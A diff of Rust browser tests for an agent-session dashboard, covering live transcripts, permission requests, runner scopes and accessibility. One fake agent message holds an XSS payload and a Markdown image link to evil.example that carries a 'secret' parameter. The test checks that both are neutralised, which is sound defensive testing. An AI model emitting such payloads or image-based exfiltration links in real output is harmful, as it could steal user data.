@@ -107,7 +107,7 @@ async fn the_dashboard_renders_sessions_orphans_and_records_in_chromium() {
     let profile = tempfile::tempdir().unwrap();
     // Without the token: the login page.
     let dom = dump_dom(&format!("{}/", s.url), profile.path()).await;
-    assert!(dom.contains("<h1>Log in</h1>"), "{dom}");
+    assert!(dom.contains("<h1>Log in"), "{dom}");
     assert!(!dom.contains(&live));
 
     // The sessions, with their states, and the orphaned environment with its error and button.
@@ -145,7 +145,7 @@ async fn the_dashboard_renders_sessions_orphans_and_records_in_chromium() {
         profile.path(),
     )
     .await;
-    let transcript = section(&dom, "id=\"transcript\"", "</div></body>");
+    let transcript = section(&dom, "id=\"transcript\"", "id=\"send\"");
     assert!(
         transcript.contains("refactor the parser")
             && transcript.contains("Looking at &lt;parser.rs&gt; now"),
@@ -465,16 +465,22 @@ async fn the_dashboard_shows_what_the_agent_did_and_answers_its_permission_reque
         profile.path(),
     )
     .await;
-    let transcript = section(&dom, "id=\"transcript\"", "</div></body>");
+    let transcript = section(&dom, "id=\"transcript\"", "id=\"send\"");
     assert_eq!(
-        transcript.matches("entry-tool_call").count(),
+        transcript.matches("class=\"tool ").count(),
         1,
         "one tool call, as it stood last: {transcript}"
     );
-    assert!(transcript.contains("[completed]"), "{transcript}");
-    assert!(!transcript.contains("[in_progress]"), "{transcript}");
+    let card = section(transcript, "class=\"tool ", "</details>");
+    assert!(
+        card.contains("state-completed")
+            && card.contains("$ cargo build --release")
+            && card.contains("<pre class=\"output\">Finished release</pre>"),
+        "a card with its status, command and output: {card}"
+    );
+    assert!(!transcript.contains("in progress"), "{transcript}");
     let runs = section(&dom, "id=\"runs\"", "</table>");
-    assert!(runs.contains("class=\"conversation\">new<"), "{runs}");
+    assert!(runs.contains("class=\"conversation-kind\">new<"), "{runs}");
     let asked = section(&dom, "class=\"permission\"", "</div>");
     assert!(asked.contains("Remove target/"), "{asked}");
     assert!(
@@ -520,4 +526,269 @@ async fn the_dashboard_shows_what_the_agent_did_and_answers_its_permission_reque
     let view = s.show(&id).await;
     assert_eq!(view["permission_requests"][0]["answer"], "option-2");
     assert_eq!(view["runs"][0]["conversation"], "new");
+}
+
+/// What every page of the dashboard must be for everyone: one heading, every field labelled,
+/// every button named, no horizontal scroll at `width` pixels. Returns what is wrong.
+async fn page_problems(b: &mut crate::browser::Browser, width: u32) -> serde_json::Value {
+    b.eval(&format!(
+        "(() => {{ const p = [];
+          const unlabelled = [...document.querySelectorAll('input:not([type=hidden]),select,textarea')]
+            .filter(e => e.labels.length === 0 && !e.getAttribute('aria-label')).map(e => e.name);
+          if (unlabelled.length) p.push('unlabelled: ' + unlabelled.join(','));
+          const unnamed = [...document.querySelectorAll('button')].filter(b => !b.textContent.trim());
+          if (unnamed.length) p.push(unnamed.length + ' buttons without a name');
+          if (document.querySelectorAll('h1').length !== 1) p.push('headings h1: ' + document.querySelectorAll('h1').length);
+          if (document.documentElement.scrollWidth > {width}) p.push('scrolls sideways: ' + document.documentElement.scrollWidth + ' because of '
+            + [...document.querySelectorAll('main *')].filter(e => e.getBoundingClientRect().right > {width} + 1 && e.parentElement.getBoundingClientRect().right <= {width} + 1)
+                .slice(0, 3).map(e => e.tagName + '.' + e.className + ' in ' + e.parentElement.tagName + '.' + e.parentElement.className + ' (' + getComputedStyle(e.parentElement).overflowX + ') ' + e.textContent.slice(0, 40)).join(' | '));
+          if (!document.querySelector('[aria-live]')) p.push('no live region');
+          return p; }})()"
+    ))
+    .await
+}
+
+/// An operator's day in the dashboard, driven in headless Chromium as a person would: start a
+/// session from the form, see the agent's answer appear without a reload (what they were typing
+/// kept), answer a permission request with a click, change an agent, add a scoped runner (its
+/// token shown once) and revoke it, close the session — each destructive action asking first.
+/// Every page is checked at 400 px and for labels.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_operator_drives_the_dashboard_in_a_browser() {
+    use std::time::Duration;
+    let s = Server::start().await;
+    s.agent("a", json!({ "inactivity_ms": 600_000 })).await;
+    s.agent("b", json!({})).await;
+    let r = s.runner("r", &["a"]).await;
+    let profile = tempfile::tempdir().unwrap();
+    let mut b = crate::browser::Browser::start(profile.path()).await;
+    b.open(&format!("{}/login?token={ADMIN}&next=/", s.url))
+        .await;
+    assert_eq!(
+        b.eval("document.querySelector('h1').textContent").await,
+        "Sessions"
+    );
+
+    // A new session from the form.
+    b.navigates(
+        "document.querySelector('#new-session select[name=agent]').value = 'a';
+         document.querySelector('#first-message').value = 'please build **it**';
+         document.querySelector('#new-session form').requestSubmit()",
+    )
+    .await;
+    let path = b.eval("location.pathname").await;
+    let id = path
+        .as_str()
+        .unwrap()
+        .trim_start_matches("/sessions/")
+        .to_string();
+    assert!(id.starts_with("ses_"), "the new session's page: {path}");
+    assert_eq!(s.show(&id).await["agent"], "a");
+    assert!(
+        b.eval("document.querySelector('#transcript .msg-user strong')?.textContent")
+            .await
+            == "it",
+        "the first message, its Markdown rendered"
+    );
+
+    // The agent answers: it appears without a reload, and the half-typed message stays.
+    let run = std::sync::Arc::new(r.take("start").await);
+    run.plugs(true, &["checkout"]).await;
+    run.ok("started", json!({ "conversation": "new" })).await;
+    b.eval("window.stayed = true; document.querySelector('#message').value = 'half typed'")
+        .await;
+    run.say("The build *passed*. <img src=x onerror=alert(1)> ![chart](https://evil.example/leak?k=secret)").await;
+    let took = b
+        .until(
+            "document.getElementById('transcript').textContent.includes('The build passed')",
+            Duration::from_secs(10),
+        )
+        .await;
+    eprintln!(
+        "the answer appeared {} ms after the runner sent it",
+        took.as_millis()
+    );
+    assert!(
+        took < Duration::from_secs(1),
+        "the answer appears within 1 s of the agent's (took {took:?})"
+    );
+    assert_eq!(b.eval("window.stayed === true").await, true, "no reload");
+    assert_eq!(
+        b.eval("document.querySelector('#message').value").await,
+        "half typed"
+    );
+    // The agent's HTML is text; its image is a link nothing fetched.
+    assert_eq!(
+        b.eval("document.querySelectorAll('#transcript img').length")
+            .await,
+        0
+    );
+    assert!(
+        b.eval("document.getElementById('transcript').textContent")
+            .await
+            .as_str()
+            .unwrap()
+            .contains("<img src=x onerror=alert(1)>")
+    );
+    assert_eq!(
+        b.eval("[...document.querySelectorAll('#transcript a.image')].map(a => a.rel).join()")
+            .await,
+        "noopener noreferrer nofollow"
+    );
+    b.screenshot("session").await;
+
+    // A permission request: a card, answered with a click.
+    let request = json!({
+        "request_id": "perm-1",
+        "tool_call": { "id": "tc-2", "title": "Remove target/", "kind": "delete",
+                       "status": "pending", "command": "rm -rf target" },
+        "options": [
+            { "option_id": "allow", "name": "Allow", "kind": "allow_once" },
+            { "option_id": "reject", "name": "Reject", "kind": "reject_once" }
+        ]
+    });
+    let (status, _) = r
+        .call(
+            Method::POST,
+            &format!("/v1/runner/runs/{}/permissions", run.id),
+            Some(json!({ "request_id": "perm-1", "request": request })),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    b.until(
+        "!!document.querySelector('.permission button.answer-allow_once')",
+        Duration::from_secs(10),
+    )
+    .await;
+    b.navigates("document.querySelector('.permission button.answer-allow_once').click()")
+        .await;
+    assert_eq!(
+        run.wait_directive("permission_answer").await["option_id"],
+        "allow"
+    );
+    b.until(
+        "!document.querySelector('.permission')",
+        Duration::from_secs(10),
+    )
+    .await;
+
+    // Closing asks first: declined, nothing happens; accepted, the session closes.
+    b.eval("window.confirm = () => false; document.querySelector('#close button').click()")
+        .await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(s.show(&id).await["state"], "active", "declined: still open");
+    let listener = run.clone();
+    let stop = tokio::spawn(async move { listener.wait_directive("stop").await });
+    b.navigates("window.confirm = (m) => m.includes('torn down'); document.querySelector('#close button').click()")
+        .await;
+    assert_eq!(stop.await.unwrap()["reason"], "closed");
+    b.until("!document.querySelector('#send')", Duration::from_secs(10))
+        .await;
+    assert_eq!(s.show(&id).await["state"], "closed");
+
+    // Agents: the settings, changed from the page.
+    b.open(&format!("{}/agents", s.url)).await;
+    b.screenshot("agents").await;
+    b.navigates(
+        "document.querySelector('#edit-a input[name=inactivity]').value = '20m';
+         document.querySelector('#edit-a input[name=requires_labels]').value = 'gpu, eu';
+         document.querySelector('#edit-a form').requestSubmit()",
+    )
+    .await;
+    let agent = s.ok(Method::GET, "/v1/agents/a", None).await;
+    assert_eq!(agent["settings"]["inactivity_ms"], 1_200_000, "{agent}");
+    assert_eq!(
+        agent["settings"]["requires_labels"],
+        json!(["eu", "gpu"]),
+        "{agent}"
+    );
+    let row = b
+        .eval("document.querySelector('tr[data-agent=a]').textContent")
+        .await;
+    assert!(row.as_str().unwrap().contains("20m"), "{row}");
+
+    // Runners: add one with a scope, its token shown once; revoking asks first.
+    b.open(&format!("{}/runners", s.url)).await;
+    b.navigates(
+        "const f = document.querySelector('#add-runner form');
+         f.querySelector('[name=name]').value = 'r2';
+         f.querySelector('[name=agents]').value = 'b';
+         f.requestSubmit()",
+    )
+    .await;
+    let token = b.eval("document.getElementById('token').textContent").await;
+    let token = token.as_str().unwrap().to_string();
+    assert!(token.starts_with("blr_"), "{token}");
+    b.screenshot("token").await;
+    let r2 = FakeRunner::new(&s, &token, "r2-1");
+    let (status, v) = r2
+        .call(
+            Method::POST,
+            "/v1/runner/connect",
+            Some(json!({ "instance": "r2-1", "agents": ["a"] })),
+        )
+        .await;
+    assert_eq!(
+        status,
+        StatusCode::FORBIDDEN,
+        "the scope set on the page: {v}"
+    );
+    r2.connect(&["b"]).await;
+    b.open(&format!("{}/runners", s.url)).await;
+    let shown = b
+        .eval("document.querySelector('section[data-runner=r2]').textContent")
+        .await;
+    assert!(
+        shown
+            .as_str()
+            .unwrap()
+            .contains("may serve agents b; claim any label")
+            && shown.as_str().unwrap().contains("r2-1"),
+        "{shown}"
+    );
+    b.screenshot("runners").await;
+    let revoke = "document.querySelector('form[action=\"/runners/r2/revoke\"] button').click()";
+    b.eval(&format!("window.confirm = () => false; {revoke}"))
+        .await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let r2_revoked = || async {
+        let runners = s.ok(Method::GET, "/v1/runners", None).await;
+        let r2 = runners["runners"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["name"] == "r2")
+            .unwrap()
+            .clone();
+        !r2["revoked_at"].is_null()
+    };
+    assert!(!r2_revoked().await, "declined: not revoked");
+    b.navigates(&format!("window.confirm = () => true; {revoke}"))
+        .await;
+    b.until(
+        "document.querySelector('section[data-runner=r2]').textContent.includes('revoked')",
+        Duration::from_secs(10),
+    )
+    .await;
+    assert!(r2_revoked().await, "accepted: revoked");
+
+    // Every page: labelled, one heading, a live region, no sideways scroll on a phone.
+    for width in [1200, 400] {
+        b.width(width).await;
+        for page in [
+            "/",
+            &format!("/sessions/{id}"),
+            "/agents",
+            "/runners",
+            "/environments",
+        ] {
+            b.open(&format!("{}{page}", s.url)).await;
+            if width == 400 {
+                b.screenshot(&format!("phone{}", page.replace('/', "-")))
+                    .await;
+            }
+            let problems = page_problems(&mut b, width).await;
+            assert_eq!(problems, json!([]), "{page} at {width} px");
+        }
+    }
 }
